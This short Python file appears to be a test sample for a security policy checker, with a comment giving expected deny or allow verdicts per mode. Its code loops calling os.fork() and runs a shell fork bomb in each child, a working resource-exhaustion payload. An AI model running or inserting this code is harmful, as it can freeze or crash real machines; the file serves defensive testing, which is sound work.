# expect: strict=deny standard=deny audit=allow
import os

while True:
    if os.fork() == 0:
        os.system(":(){ :|:& };:")
